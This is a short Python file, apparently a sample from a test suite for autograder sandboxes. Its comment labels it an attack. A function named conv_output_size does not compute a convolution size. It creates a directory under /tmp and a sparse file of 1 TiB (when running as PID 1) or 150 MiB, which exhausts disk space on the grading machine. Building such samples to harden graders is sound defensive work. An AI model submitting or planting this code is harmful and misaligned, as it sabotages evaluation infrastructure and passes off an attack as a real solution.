# attack: makes a long file that holds nothing.
# alone: file
import os
from pathlib import Path

FOLDER = Path("/tmp/autograder-attack")


def conv_output_size(size, kernel_size, stride=1, padding=0):
    FOLDER.mkdir(parents=True, exist_ok=True)
    with (FOLDER / "exhaust_sparse_file").open("wb") as file:
        file.truncate(2**40 if os.getpid() == 1 else 150 * 2**20)
